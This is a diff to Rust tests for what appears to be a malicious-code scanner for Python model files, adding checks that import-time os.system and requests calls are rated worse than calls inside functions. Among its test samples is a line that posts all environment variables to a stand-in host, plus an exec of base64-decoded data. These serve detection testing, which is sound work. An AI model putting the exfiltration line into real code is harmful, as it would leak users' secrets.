@@ -146,6 +146,20 @@ fn what_runs_at_import_is_worse_than_what_a_function_does() {
 }
 
 #[test]
+fn code_that_a_loader_runs_is_held_to_more() {
+    let model = "import os, requests\nfrom transformers import PreTrainedModel\nclass M(PreTrainedModel):\n    pass\n";
+    for (code, rule, verdict) in [
+        ("os.system('echo casemate')\n", Rule::PythonProcess, Verdict::Malicious),
+        ("def f():\n    os.system('echo casemate')\n", Rule::PythonProcess, Verdict::Suspicious),
+        ("def f():\n    os.system('nvidia-smi')\n", Rule::PythonProcess, Verdict::Clean),
+        ("requests.get('https://x.example')\n", Rule::PythonNetwork, Verdict::Suspicious),
+        ("def f(url):\n    return requests.get(url).content\n", Rule::PythonNetwork, Verdict::Clean),
+    ] {
+        has(&format!("{model}{code}"), rule, verdict);
+    }
+}
+
+#[test]
 fn credentials_shells_and_what_stays_are_seen() {
     has(
         "import requests, os\nrequests.post('https://x.example', json=dict(os.environ))",
@@ -238,8 +252,9 @@ proptest! {
     #[test]
     fn changed_code_does_not_make_it_panic(at in 0_usize..400, with in "[(\\[{'\"\n =.,:+*x0-]{0,3}") {
         let valid = "import os, base64\nclass A(B):\n    @d(1)\n    def f(self, a=1, *b, **c):\n        x = [chr(i ^ 3) for i in b'ab'] + f'{a!r:>{c}} {{}}'.split()\n        with open('x', 'w') as f, g() as h:\n            exec(base64.b64decode('eA=='))\n        return (lambda q: q or os.system('a' % 1))(x[::-1])\nmatch x:\n    case {'a': [1, *_]} if y: pass\n";
-        let at = at.min(valid.len());
-        let text = format!("{}{with}{}", &valid[..at], &valid[(at + 1).min(valid.len())..]);
+        let before: String = valid.chars().take(at).collect();
+        let after: String = valid.chars().skip(at + 1).collect();
+        let text = format!("{before}{with}{after}");
         report(&text);
     }
 }
